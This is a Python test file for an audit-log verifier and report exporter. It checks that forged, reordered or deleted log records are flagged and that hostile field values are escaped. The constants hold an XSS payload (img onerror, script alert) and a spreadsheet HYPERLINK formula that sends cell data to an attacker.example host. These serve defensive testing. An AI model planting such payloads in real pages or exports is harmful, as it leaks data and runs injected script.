"""Attacks on the report and the export from outside: forged, inserted, reordered and deleted records;
hostile values in the fields the report now shows (a reseller controls the attestation id, anyone can
register an odd account name); spreadsheet formulas in the CSV; odd revisions in the export.

Every log is written by the real pipeline and store; every tampering edits the stored bytes.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path
from typing import Any

import pytest

from enforcer.accounts import StaticAccountDirectory
from enforcer.audit import layout
from enforcer.audit.chain import split_line
from enforcer.audit.defaults import default_public_key, open_local_store
from enforcer.audit.opa_export import bundles, to_opa_event
from enforcer.audit.query import LoggedRecord, iter_records
from enforcer.audit.record import canonical
from enforcer.audit.report import collect, render_html
from enforcer.audit.report_rows import write_csv
from enforcer.audit.row_check import check_rows, local_checkpoints
from enforcer.audit.verify import open_verify
from enforcer.model import AccountOrigin, AttestationResult, LaunchItem, LaunchRequest
from enforcer.pipeline import Enforcer
from tests.audit_report_kit import PLAN, RESELLER, write_log
from tests.test_audit_report import _chromium, chromium  # noqa: F401
from tests.test_audit_report_view import _probe

HOSTILE_JTI = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
LONG = "A" * 700  # one unbroken token: must wrap, not widen the table
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'


def _lines(audit: Path) -> tuple[Path, list[bytes]]:
    seg = layout.segment_files(audit)[0][1]
    return seg, seg.read_bytes().splitlines(keepends=True)


def _failures(audit: Path) -> dict[int, str]:
    pem = default_public_key(audit.parent / "keys")
    return check_rows(iter_records(audit), local_checkpoints(audit, pem), open_verify(audit, pem))


def _sealed(rec: dict[str, Any]) -> bytes:
    rec = {k: v for k, v in rec.items() if k != "hash"}
    body = canonical(rec)
    return body[:-1] + b',"hash":"' + hashlib.sha256(body).hexdigest().encode() + b'"}\n'


@pytest.fixture()
def log(tmp_path: Path, engine: Any, catalog: Any) -> Path:
    return write_log(tmp_path / "state", engine, catalog)


def test_an_inserted_forged_record_that_chains_is_marked_not_the_genuine_ones_before_it(log: Path) -> None:
    seg, lines = _lines(log)
    body, stated = split_line(lines[1])
    forged = json.loads(body)  # a fabricated allow for the CN-parent account, chained after seq 1
    forged.update(seq=2, prev_hash=stated, decision_id="forged-0001")
    forged["result"] = {"effect": "allow", "reasons": []}
    seg.write_bytes(b"".join([*lines[:2], _sealed(forged), *lines[2:]]))
    failures = _failures(log)
    assert 2 in failures  # the forged record
    assert all(p not in failures for p in (0, 1))
    data = collect(iter_records(log), failures)
    assert data.total + data.failed == len(PLAN) + 1 and data.failed == len(failures)
    assert all(row["decision_id"] != "forged-0001" or row["failure"] for row in data.listed)


def test_swapped_records_are_both_marked(log: Path) -> None:
    seg, lines = _lines(log)
    lines[6], lines[7] = lines[7], lines[6]
    seg.write_bytes(b"".join(lines))
    failures = _failures(log)
    assert {6, 7} <= set(failures) and all(p not in failures for p in range(6))


def test_a_deleted_record_marks_where_it_was_and_nothing_far_from_it(log: Path) -> None:
    seg, lines = _lines(log)
    del lines[2]  # a CN denial disappears
    seg.write_bytes(b"".join(lines))
    failures = _failures(log)
    assert list(failures) == [2] and "seq 2 missing" in failures[2]


def test_recomputed_hashes_of_genuine_records_match_what_was_stored(log: Path) -> None:
    # As the AWS store and the demo hand records over: parsed, no stored bytes; nothing may look forged.
    stripped = [LoggedRecord(lr.file, lr.line, lr.record) for lr in iter_records(log)]
    assert all(lr.computed is None for lr in stripped)
    assert check_rows(stripped) == {}
    page = render_html(stripped, verification=open_verify(log))
    assert "class='tampered'" not in page


class _HostileReseller:
    def for_account(self, origin: AccountOrigin, now: float, ref: str | None = None) -> AttestationResult:
        ec = {"country": "SG", "hq_country": "SG", "parent_hq_country": "CN", "kyc_level": "verified"}
        return AttestationResult(
            "valid", {"end_customer": ec}, jti=HOSTILE_JTI + LONG, kid="k", issuer=FORMULA, reseller=RESELLER
        )


def _hostile_log(state: Path, engine: Any, catalog: Any) -> Path:
    audit = state / "audit"
    store = open_local_store(audit, state / "keys", checkpoint_every=4)
    origin = AccountOrigin("333344445555", "SG", "SG", "SG", "none", reseller="acme")
    enf = Enforcer(
        catalog=catalog,
        accounts=StaticAccountDirectory([origin]),
        engine=engine,
        attestations=_HostileReseller(),
        audit=store,
    )
    for n, principal in enumerate((FORMULA, f"arn:aws:iam::333344445555:role/{LONG}", "<b>x</b>")):
        req = LaunchRequest(
            "cloudtrail",
            "ec2:RunInstances",
            origin.account_id,
            "us-east-1",
            principal=principal,
            items=[LaunchItem("p5.48xlarge", 1)],
            event_id=f"h-{n}",
            event_time="2026-11-30T10:00:00Z" if n else LONG,
        )
        enf.enforce(req, action="stop")
    store.close()
    return audit


def test_hostile_fields_are_escaped_in_html_and_defused_in_csv(
    tmp_path: Path, engine: Any, catalog: Any
) -> None:
    audit = _hostile_log(tmp_path / "state", engine, catalog)
    page = render_html(list(iter_records(audit)), verification=open_verify(audit))
    assert HOSTILE_JTI not in page and "<img" not in page and "<b>x</b>" not in page
    assert page.count("<script>") == 1
    out = io.StringIO()
    write_csv(out, iter_records(audit), {})
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["principal"] == "'" + FORMULA and rows[0]["attestation_issuer"] == "'" + FORMULA
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values()), row


def test_hostile_long_values_do_not_widen_the_page(
    tmp_path: Path,
    engine: Any,
    catalog: Any,
    chromium: str,  # noqa: F811
) -> None:
    audit = _hostile_log(tmp_path / "state", engine, catalog)
    page = render_html(list(iter_records(audit)), verification=open_verify(audit))
    probe = _probe(chromium, page, tmp_path, 1280)
    assert probe["page"] <= probe["inner"] == 1280, probe
    assert probe["cut"] == [], probe["cut"]


def test_export_bundles_and_absent_members() -> None:
    assert bundles("W3sibCI6InN5cy9jYXRhbG9nIiwicyI6NDA3MX1d==") == {
        "gpu-launch-enforcer": {"revision": "W3sibCI6InN5cy9jYXRhbG9nIiwicyI6NDA3MX1d=="}
    }
    assert bundles("a=1,b=2") == {"a": {"revision": "1"}, "b": {"revision": "2"}}
    assert bundles("a=1,a=2") == {"gpu-launch-enforcer": {"revision": "a=1,a=2"}}  # not two bundles
    assert bundles("unknown") == {} and bundles(None) == {}
    ev = to_opa_event({"decision_id": "d", "path": "gpu/launch/decision", "policy": "junk", "metrics": [1]})
    assert "input" not in ev and "result" not in ev and "bundles" not in ev and "metrics" not in ev
    assert ev["labels"]["version"] == "unknown" and ev["gpu_enforcer"]["reasons"] == []
    ev = to_opa_event({"result": {"reasons": ["x", {"code": "A"}]}, "metrics": {"t": True, "n": 2.0}})
    assert ev["gpu_enforcer"]["reasons"] == [{"code": "A", "message": None, "severity": None}]
    assert ev["metrics"] == {"n": 2}
